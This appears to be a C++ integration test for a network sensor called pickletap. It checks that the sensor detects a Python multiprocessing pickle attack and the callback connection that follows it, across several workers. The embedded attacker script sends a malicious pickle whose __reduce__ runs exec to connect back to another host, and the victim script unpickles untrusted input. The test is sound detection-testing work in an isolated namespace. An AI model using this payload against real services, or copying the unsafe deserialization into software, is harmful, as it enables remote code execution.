// A victim that loads what it is sent and connects back at once: the call-back's first packet is on the wire before the
// pickle has been judged, and may be another worker's.
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <algorithm>
#include <boost/json.hpp>
#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

#include "tests/live/netns.h"

namespace pickletap::test {
namespace {

constexpr char kVictim[] = R"(
from multiprocessing.connection import Listener
with Listener(("10.99.0.2", 50778), backlog=64) as listener:
    while True:
        with listener.accept() as peer:
            try:
                while True:
                    peer.recv()
                    peer.send_bytes(b"seen")
            except EOFError:
                pass
)";

// argv: ports to be called back at; nobody listens there, a refused SYN is a call-back all the same.
constexpr char kAttacker[] = R"py(
import pickle, socket, sys
from multiprocessing.connection import Connection
class Evil:
    def __init__(self, port):
        self.port = port
    def __reduce__(self):
        return exec, ("import socket\nsocket.socket().connect_ex(('10.99.0.1', %s))" % self.port,)
for port in sys.argv[1:]:
    with socket.socket() as link:
        link.connect(("10.99.0.2", 50778))
        peer = Connection(link.detach())
        peer.send_bytes(pickle.dumps(Evil(port)))
        peer.recv_bytes()
        peer.close()
)py";

/// Destination ports of the call-backs told so far. The last line may still be being written.
std::vector<uint64_t> called_back(const std::string& eve) {
  std::vector<uint64_t> ports;
  std::ifstream lines(eve);
  for (std::string line; std::getline(lines, line) && !lines.eof();) {
    const auto event = boost::json::parse(line).as_object();
    const auto* alert = event.if_contains("alert");
    if (alert == nullptr || alert->at("rule").as_string() != "attack.callback") continue;
    EXPECT_EQ(event.at("src_ip").as_string(), "10.99.0.2");
    EXPECT_EQ(event.at("other_flow").at("dest_port").to_number<uint64_t>(), 50778U);
    EXPECT_EQ(event.at("python_mp").at("outcome").as_string(), "executed");
    ports.push_back(event.at("dest_port").to_number<uint64_t>());
  }
  std::sort(ports.begin(), ports.end());
  return ports;
}

TEST(LiveCallback, IsSeenWhicheverWorkerHasIt) {
  PICKLETAP_NEEDS_NAMESPACES();
  if (run({"python3", "-c", "import multiprocessing"}).exit_code != 0) GTEST_SKIP() << "needs python3";
  TempFolder folder;
  chmod(folder.path().c_str(), 0777);  // the sensor is somebody else by the time it writes
  VethPair wire;
  const std::string eve = folder.path("eve.json"), log = folder.path("log");
  Process sensor = wire.spawn_in(wire.b,
                                 {PICKLETAP_BINARY, "run", "-i", wire.b.interface, "-o", eve, "--workers", "3", "--set",
                                  "sandbox.user=nobody", "--set", "http.listen="},
                                 log);
  ASSERT_TRUE(eventually([&] { return std::filesystem::exists(eve) || !sensor.is_running(); })) << read_bytes(log);
  const Process victim = wire.spawn_in(wire.b, {"python3", "-c", kVictim}, log);
  const std::vector<uint64_t> wanted{4001, 4002, 4003, 4004, 4005, 4006, 4007, 4008};
  Arguments attacker{"python3", "-c", kAttacker};
  for (const uint64_t port : wanted) attacker.push_back(std::to_string(port));
  // Tried until the victim listens: attempts that are refused before are nobody's traffic.
  Finished done;
  eventually([&] {
    done = wire.run_in(wire.a, attacker);
    return done.exit_code == 0 || done.err.find("refused") == std::string::npos;
  });
  EXPECT_EQ(done.exit_code, 0) << done.err;
  EXPECT_TRUE(eventually([&] { return called_back(eve).size() >= wanted.size(); })) << read_bytes(log);
  EXPECT_EQ(sensor.terminate(), 0) << read_bytes(log);
  EXPECT_EQ(called_back(eve), wanted);
}

}  // namespace
}  // namespace pickletap::test
